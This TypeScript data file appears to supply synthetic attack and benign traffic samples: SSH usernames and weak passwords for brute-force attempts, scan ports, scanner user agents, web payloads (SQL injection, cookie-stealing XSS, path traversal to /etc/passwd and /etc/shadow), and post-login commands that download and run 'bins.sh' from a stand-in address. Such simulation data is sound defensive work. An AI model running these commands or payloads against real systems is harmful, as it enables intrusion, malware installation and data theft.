export const SSH_USERNAMES = [
  'root',
  'admin',
  'ubuntu',
  'test',
  'oracle',
  'pi',
  'user',
  'postgres',
  'git',
  'deploy',
  'support',
  'guest',
  'ftpuser',
  'jenkins',
  'backup',
  'mysql',
  'ec2-user',
  'centos',
  'hadoop',
  'nagios',
] as const;

export const SSH_PASSWORDS = [
  '123456',
  'password',
  'admin',
  'root',
  '12345678',
  'qwerty',
  'letmein',
  'toor',
  'changeme',
  'P@ssw0rd',
  'raspberry',
  '1q2w3e4r',
  '123123',
  'welcome',
  'abc123',
  'passw0rd',
  'admin123',
  'test123',
  'ubuntu',
  'default',
  'master',
  'dragon',
  'Password1',
  'iloveyou',
  'monkey',
  'football',
  'shadow',
  '654321',
  'superman',
  'qwe123',
] as const;

export const POST_LOGIN_COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'whoami',
  'cd /tmp && wget http://198.51.100.23/bins.sh',
  'chmod +x bins.sh && ./bins.sh',
  'crontab -l',
  'cat /etc/passwd',
] as const;

export const SCAN_PORTS = [
  21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2049, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 11211, 27017,
] as const;

/** Web attack payloads by family; the request carries them percent-encoded, as clients send them. */
export const WEB_PAYLOADS = {
  sqli: ["1' OR '1'='1", '1 UNION SELECT username,password FROM users--', "1'; DROP TABLE orders;--", "' OR 1=1--"],
  xss: ['<script>alert(document.cookie)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>'],
  traversal: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//windows/win.ini'],
} as const;

export const ATTACK_USER_AGENTS = ['sqlmap/1.8.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.5.0)', 'python-requests/2.31.0'] as const;

export const BROWSER_USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
] as const;

export const BENIGN_DOMAINS = ['intranet.example.com', 'mail.example.com', 'updates.example.org', 'cdn.example.net', 'www.example.com'] as const;

export const BENIGN_PATHS = ['/', '/index.html', '/dashboard', '/api/v1/status', '/static/app.js', '/images/logo.png'] as const;
